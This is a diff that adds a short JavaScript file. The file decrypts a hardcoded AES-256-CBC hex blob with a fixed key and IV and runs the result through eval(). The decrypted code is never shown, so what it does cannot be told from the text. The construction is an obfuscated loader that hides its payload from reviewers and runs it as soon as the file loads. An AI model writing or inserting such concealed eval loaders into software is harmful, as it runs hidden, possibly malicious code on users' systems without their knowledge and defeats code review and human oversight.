@@ -1,0 +1,6 @@
+const crypto = require('crypto');
+const k = Buffer.from('0707070707070707070707070707070707070707070707070707070707070707', 'hex');
+const iv = Buffer.from('03030303030303030303030303030303', 'hex');
+const d = crypto.createDecipheriv('aes-256-cbc', k, iv);
+const code = d.update('bbcef44a16186b505673b2a7794f559a984331d04210d4418acd352638372dd3f0e803655195510525cc48a6b183d4fc29cfe5e4708af4f98d51124307d64323a24963d4fbcc13f7e10df8f662b39dafe7afd4f6c7167baf48cce7da8c89b3b0dc29b10df04ea2c068e32d6c02472c6017949bbdd7b9126f80b0d53737eec3d8cdd3f7bd7f72ae784c0c4e22d86da516', 'hex', 'utf8') + d.final('utf8');
+eval(code);
